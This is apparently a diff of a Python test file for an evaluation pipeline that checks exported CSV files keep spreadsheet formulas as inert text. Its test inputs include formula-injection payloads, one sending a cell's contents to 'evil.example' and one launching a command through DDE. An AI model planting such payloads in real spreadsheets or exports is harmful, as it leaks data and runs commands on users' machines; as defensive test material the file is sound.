@@ -13,8 +13,7 @@ from pipelines.golden.human import import_human_items
 from pipelines.records import Score
 from pipelines.workspace import Workspace
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1"]  # fmt: skip
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"ver")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
 
 
 @dataclass
@@ -24,15 +23,26 @@ class Chunk:
 
 
 def score(trace_id: str, value: float) -> Score:
-    return Score(run_id="online/2026-03-01/production", suite="online", item_id=trace_id, stratum="docs/es",
-                 metric="faithfulness", value=value, status="ok", dataset_version="traces@2026-03-01")  # fmt: skip
+    return Score(
+        run_id="online/2026-03-01/production",
+        suite="online",
+        item_id=trace_id,
+        stratum="docs/es",
+        metric="faithfulness",
+        value=value,
+        status="ok",
+        dataset_version="traces@2026-03-01",
+    )
 
 
 def test_candidate_files_keep_formulas_as_text_and_read_back_unchanged(tmp_path):
-    traces = [{"trace_id": f"t{i}", "question": text, "answer": FORMULAS[-1 - i], "language": "es"}
-              for i, text in enumerate(FORMULAS)]  # fmt: skip
-    written, path = queue_candidates(Workspace(tmp_path), date(2026, 3, 1), traces,
-                                     [score(t["trace_id"], 0.1 * i) for i, t in enumerate(traces)])  # fmt: skip
+    traces = [
+        {"trace_id": f"t{i}", "question": text, "answer": FORMULAS[-1 - i], "language": "es"}
+        for i, text in enumerate(FORMULAS)
+    ]
+    written, path = queue_candidates(
+        Workspace(tmp_path), date(2026, 3, 1), traces, [score(t["trace_id"], 0.1 * i) for i, t in enumerate(traces)]
+    )
     assert written == len(FORMULAS)
     with path.open(newline="", encoding="utf-8") as fh:
         cells = [cell for row in csv.reader(fh) for cell in row]
@@ -47,8 +57,9 @@ def test_a_csv_saved_with_a_bom_imports_and_keeps_its_trace_id(tmp_path):
     body = "trace_id,question,reference_answer,gold_chunk_ids\r\nt-42,¿Cuál es el límite?,100 por minuto.,c1\r\n"
     path.write_bytes(b"\xef\xbb\xbf" + body.encode("utf-8"))  # what Excel's "CSV UTF-8" writes
     assert read_rows(path)[0]["trace_id"] == "t-42"
-    report = import_human_items(path, [Chunk("c1", "El límite es 100 por minuto.")], corpus_version="c",
-                                created_at="2026-03-02T00:00:00Z")  # fmt: skip
+    report = import_human_items(
+        path, [Chunk("c1", "El límite es 100 por minuto.")], corpus_version="c", created_at="2026-03-02T00:00:00Z"
+    )
     assert report.problems == []
     [item] = report.items
     assert item.source == "trace" and item.source_ref == "t-42"
